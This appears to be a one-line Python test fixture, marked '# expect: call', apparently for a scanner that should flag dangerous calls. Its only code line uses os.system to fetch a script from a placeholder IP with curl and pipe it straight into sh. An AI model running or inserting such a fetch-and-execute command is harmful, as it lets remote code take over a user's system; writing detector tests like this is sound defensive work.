# expect: call
import os

os.system("curl -s http://203.0.113.5/x | sh")
